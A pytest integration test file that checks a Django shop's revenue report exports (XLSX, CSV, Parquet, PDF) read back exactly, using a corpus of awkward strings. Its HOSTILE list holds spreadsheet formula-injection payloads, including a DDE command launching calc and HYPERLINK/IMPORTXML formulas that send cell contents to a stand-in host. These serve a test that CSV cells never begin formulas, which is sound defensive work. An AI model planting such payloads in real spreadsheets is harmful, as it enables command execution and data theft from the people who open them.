"""One report of five thousand rows, full of what breaks things, as programs that are not ours read it: cell for cell
the same as SQL has it."""

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from django.core.management import call_command
from django.test import override_settings
from django.utils import timezone, translation
from python_calamine import CalamineWorkbook

from reports import building, kinds, services
from reports.choice import Choice
from reports.models import Report
from reports.pdf.text import CUT, printable
from reports.periods import Period
from reports.rows import Holds
from reports.specs import Column, Format
from shop.accounts.models import Role
from shop.orders.models import OrderLine
from tests import pdfs
from tests.conftest import CORPUS
from tests.factories.orders import CustomerFactory, OrderFactory
from tests.factories.people import PersonFactory
from tests.integration.reports import reading
from tests.integration.reports.conftest import Worker, content_of
from tests.integration.reports.kinds_in_sql import rows_by_sql
from tests.integration.reports.test_kinds import SHOP

ROWS = 5_000
YEAR = Period.year(2025)
COLUMNS = kinds.get("revenue").columns
#: Those of the PDF: more would leave a name of 255 characters no room.
FEW = ["sku", "product"]
PRODUCT = [column.name for column in COLUMNS].index("product")
#: As fields of ``naughty_strings`` they would be missed: what begins formulas, and what formats make of texts.
HOSTILE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1,"x")', '=IMPORTXML(CONCAT("http://x",A1),"//a")',
    "+1", "-2+3", "-5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "%0A=1", "=1\n=2", ";=1", '"=1',
    "0000123", "1234567890123456789", "9,99E+5", "1E5", "TRUE", "2026-11-25", "1/2", "#REF!", "NaN", "null", "",
    "  spaces  ", " ", "\t", "\n", "\r", "a\r\nb", "a\rb", "a\nb\tc", "a,b;c\td", '"', '""', 'a"b', "\\", "\\N", "\\.",
    "_x000D_", "_x005F_x000D_", "_x000d_ _X000D_ _x00_", '<a href="x">&amp;</a> ]]>', "Nguyễn Thị Hường", "NFD: Hường",
    "👩‍👩‍👧‍👦 🇻🇳 𠀀", "עברית abc العربية", "\u200b\u202eabc\ufeff", "ữ" * 255, "W" * 255, "😀" * 255, "()\\(", "EMC ]TJ",
    *(f"a{chr(code)}b" for code in [*range(1, 0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, 0xFDD0, 0xFFFE, 0xFFFF, 0x10FFFF]),
]  # fmt: skip


def naughty_strings() -> list[str]:
    (source,) = (CORPUS / "mail" / "naughty-strings").rglob("blns.json")
    return [text[:255] for text in json.loads(source.read_text()) if "\0" not in text]


@pytest.fixture(scope="module")
def transactional_db(django_db_setup: None, django_db_blocker: Any) -> Iterator[None]:
    with django_db_blocker.unblock():
        yield
        call_command("flush", verbosity=0, interactive=False)


@pytest.fixture(scope="module")
def shop(transactional_db: None) -> list[reading.Row]:
    """The rows, by SQL of our own."""
    if not CORPUS.is_dir():
        pytest.skip("the corpus of public files is not beside this checkout")
    names = [*HOSTILE, *naughty_strings()]
    names += [f"Áo thun cotton nam {number % 37}" for number in range(ROWS - len(names))]
    first = datetime(2025, 1, 1, tzinfo=SHOP)
    customer = CustomerFactory(name='=Lê\x01 "An"', phone="0000912345")
    orders = [
        OrderFactory(placed_at=first, currency=currency, decimals=decimals, code=f"{code}-1", number=f"00{code}",
                     channel=customer.channel, customer=customer if code == "A" else None, region=region)
        for code, currency, decimals, region in (("A", "VND", 0, "-5"), ("B", "GBP", 2, "\x0b=1"), ("C", "GBP", 3, ""))
    ]  # fmt: skip
    prices = [0, 1, 1_290_000, 99_999, 10**14, 10**15 + 1, 2**53 + 1, 10**15 - 1]
    OrderLine.objects.bulk_create(
        OrderLine(
            order=order, position=number, sku=f"R{number:05}", name=name, quantity=number % 7 - 2,
            unit_price=prices[number % 8], discount=number % 11 - 5, currency=order.currency, decimals=order.decimals,
            placed_at=first + timedelta(days=364, hours=23) * number / ROWS + timedelta(microseconds=number),
        )
        for number, name in enumerate(names)
        for order in [orders[number % 3]]
    )  # fmt: skip
    rows = rows_by_sql("revenue", *YEAR.instants(SHOP))
    assert len(rows) == ROWS
    with translation.override("en"):
        return reading.expected(COLUMNS, rows)


@pytest.fixture(scope="module")
def make(shop: list[reading.Row], tmp_path_factory: pytest.TempPathFactory) -> Callable[..., tuple[Report, bytes]]:
    """Makes the report in a format, once, with its file's content."""
    owner = PersonFactory(roles=[Role.OWNER, Role.CUSTOMER_DATA])
    folder, made = tmp_path_factory.mktemp("files"), dict[str, tuple[Report, bytes]]()
    storage = {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(folder)}}

    def finished(format: Format) -> tuple[Report, bytes]:
        if format not in made:
            columns = FEW if format == Format.PDF else [column.name for column in COLUMNS]
            with translation.override("en"), override_settings(STORAGES={"default": storage}):
                report = services.request_report(
                    owner=owner, choice=Choice("revenue", format, columns), period=YEAR, now=timezone.now()
                )
                building.build(report.pk, run=Worker())  # type: ignore[arg-type]
                report = Report.objects.get(pk=report.pk)
                made[format] = (report, content_of(report))
        return made[format]

    return finished


def soffice(source: Path, folder: Path, to: str, *options: str) -> None:
    """Converts ``source`` by LibreOffice, with a profile of its own, into ``folder``."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("LibreOffice is not installed")
    profile = (folder / "profile").as_uri()
    command = [program, f"-env:UserInstallation={profile}", "--headless", *options, "--convert-to", to]
    subprocess.run([*command, "--outdir", str(folder), str(source)], check=True, capture_output=True, timeout=120)


#: Separated by commas, quoted, UTF-8, cells as they are and not as they are shown, every sheet in a file.
AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


def separated(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))


def typed(column: Column, cell: str) -> Any:
    """The value of a cell that LibreOffice has written as text."""
    if column.holds == Holds.TEXT or not cell:
        return cell
    return datetime.fromisoformat(cell) if column.holds == Holds.MOMENT else Decimal(cell)


def differences(found: Sequence[Sequence[Any]], wanted: Sequence[Sequence[Any]]) -> list[tuple[str, Any, Any]]:
    """Cells that are not what they should be, by their column."""
    assert len(found) == len(wanted)
    return [
        (column.name, is_, should)
        for row, right in zip(found, wanted, strict=True)
        for column, is_, should in zip(COLUMNS, row, right, strict=True)
        if is_ != should
    ]


class TestWorkbook:
    def test_openpyxl(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]]) -> None:
        _report, content = make(Format.XLSX)
        assert differences(reading.by_openpyxl(content, COLUMNS, "Revenue"), shop) == []

    def test_calamine(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]]) -> None:
        _report, content = make(Format.XLSX)
        _heading, *rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Revenue").to_python()
        found = [[_of_calamine(column, cell) for column, cell in zip(COLUMNS, row, strict=True)] for row in rows]
        # It leaves the two characters that XML cannot hold as they are written there, though it decodes all others.
        assert differences(found, shop) == [
            ("product", "a_xFFFE_b", "a\ufffeb"),
            ("product", "a_xFFFF_b", "a\uffffb"),
            *(("product", text.replace("\ufffe", "_xFFFE_"), text) for text in naughty_strings() if "\ufffe" in text),
        ]

    def test_libreoffice(
        self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]], tmp_path: Path
    ) -> None:
        report, content = make(Format.XLSX)
        (tmp_path / "report.xlsx").write_bytes(content)
        soffice(tmp_path / "report.xlsx", tmp_path, AS_CSV)
        assert sorted(path.name for path in tmp_path.glob("*.csv")) == ["report-Revenue.csv", "report-Summary.csv"]
        heading, *rows = separated(tmp_path / "report-Revenue.csv")
        assert heading == reading.headings_of(report)
        found = [[typed(column, cell) for column, cell in zip(COLUMNS, row, strict=True)] for row in rows]
        assert differences(found, shop) == with_its_own_line_ends(shop)
        facts = {row[0]: row[1] for row in separated(tmp_path / "report-Summary.csv")}
        assert facts["Rows"] == f"{ROWS}"
        for currency in ("VND", "GBP"):
            revenue = sum((row[-2] for row in shop if row[-1] == currency), Decimal(0))
            assert Decimal(facts[f"Revenue in {currency}"]) == revenue


def with_its_own_line_ends(shop: list[reading.Row]) -> list[tuple[str, str, str]]:
    """What LibreOffice makes of a text with another system's line ends: in its cells a line ends in one character."""
    names = [row[PRODUCT] for row in shop]
    return [("product", name.replace("\r\n", "\n"), name) for name in names if "\r\n" in name]


def _of_calamine(column: Column, cell: Any) -> Any:
    if column.holds == Holds.TEXT:
        return cell
    if column.holds == Holds.MOMENT:  # a midnight comes as a day
        return cell if isinstance(cell, datetime) else datetime.combine(cell, time())
    return Decimal(cell if isinstance(cell, str) else repr(cell))


class TestSeparatedText:
    def test_python(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]]) -> None:
        report, _content = make(Format.CSV)
        assert report.row_count == ROWS
        assert differences(reading.by_csv(make(Format.CSV)[1], COLUMNS, ""), shop) == []

    def test_libreoffice_opens_it_as_python_does(
        self, make: Callable[..., tuple[Report, bytes]], tmp_path: Path
    ) -> None:
        """Every column as text: what a spreadsheet makes of numbers is a matter of its settings."""
        (tmp_path / "report.csv").write_bytes(make(Format.CSV)[1])
        columns = "/".join(f"{number}/2" for number in range(1, len(COLUMNS) + 1))
        soffice(tmp_path / "report.csv", tmp_path / "there", AS_CSV.removesuffix(",-1"),
                f"--infilter=Text - txt - csv (StarCalc):44,34,76,1,{columns}")  # fmt: skip
        ours, theirs = separated(tmp_path / "report.csv"), separated(tmp_path / "there" / "report.csv")
        assert len(ours) == ROWS + 1
        # In its cells lines end in one character, whatever ends them in the file.
        assert [[cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in ours] == theirs

    def test_no_cell_begins_a_formula(self, make: Callable[..., tuple[Report, bytes]]) -> None:
        _heading, *rows = csv.reader(io.StringIO(make(Format.CSV)[1].decode("utf-8-sig"), newline=""))
        for row in rows:
            for column, cell in zip(COLUMNS, row, strict=True):
                if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) or column.holds == Holds.TEXT:
                    assert not cell.startswith(reading.GUARDED)


class TestParquet:
    def test_duckdb(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]], tmp_path: Path) -> None:
        (tmp_path / "report.parquet").write_bytes(make(Format.PARQUET)[1])
        with duckdb.connect() as database:
            rows = database.execute("SELECT * FROM read_parquet(?)", [str(tmp_path / "report.parquet")]).fetchall()
        found = [[_of_duckdb(column, cell) for column, cell in zip(COLUMNS, row, strict=True)] for row in rows]
        assert differences(found, shop) == []

    def test_arrow(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]]) -> None:
        assert differences(reading.by_arrow(make(Format.PARQUET)[1], COLUMNS, ""), shop) == []


def _of_duckdb(column: Column, cell: Any) -> Any:
    if column.holds == Holds.TEXT:
        return cell or ""
    return cell.replace(microsecond=0) if isinstance(cell, date) else Decimal(cell)


class TestPages:
    SHOWN = ("time", "order", "sku", "product", "quantity", "revenue", "currency")

    def test_qpdf_finds_nothing_wrong(self, make: Callable[..., tuple[Report, bytes]], tmp_path: Path) -> None:
        path = tmp_path / "report.pdf"
        path.write_bytes(make(Format.PDF)[1])
        checked = subprocess.run(
            [pdfs.program("qpdf"), "--check", str(path)], capture_output=True, text=True, check=False
        )
        assert (checked.returncode, checked.stderr) == (0, "")

    def test_poppler_finds_every_row_in_order_and_the_sums_at_the_end(
        self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]], tmp_path: Path
    ) -> None:
        lines = pdfs.pdftotext(make(Format.PDF)[1], tmp_path, "-layout")
        assert re.findall(r"\bR\d{5}\b", "\n".join(lines)) == [f"R{number:05}" for number in range(ROWS)]
        last = "\n".join(lines).rstrip("\f").rpartition("\f")[2].splitlines()
        for currency in ("VND", "GBP"):
            ours = [row for row in shop if row[-1] == currency]
            pieces, revenue = (sum((row[place] for row in ours), Decimal(0)) for place in (11, 14))
            (total,) = [line.split() for line in last if line.startswith(f"Total {currency}")]
            assert [Decimal(text.replace(",", "")) for text in total[-2:]] == [pieces, revenue]

    def test_pypdf_reads_every_cell(self, shop: list[reading.Row], make: Callable[..., tuple[Report, bytes]]) -> None:
        report, content = make(Format.PDF)
        assert [column.name for column in report.choice.selected] == list(self.SHOWN)
        places = [[column.name for column in COLUMNS].index(name) for name in self.SHOWN]
        found = reading.by_pypdf(content, report.choice.selected, "")
        assert len(found) == ROWS
        for row, right in zip(found, shop, strict=True):
            wanted = [printable(cell) if isinstance(cell, str) else cell for cell in (right[place] for place in places)]
            shown = list(row)
            if shown[3] != wanted[3]:  # too long for the lines of a cell, and it says so
                assert shown[3].endswith(CUT)
                assert wanted[3].startswith(shown[3].removesuffix(CUT))
                assert len(shown[3]) > 90
                shown[3] = wanted[3]
            assert shown == wanted
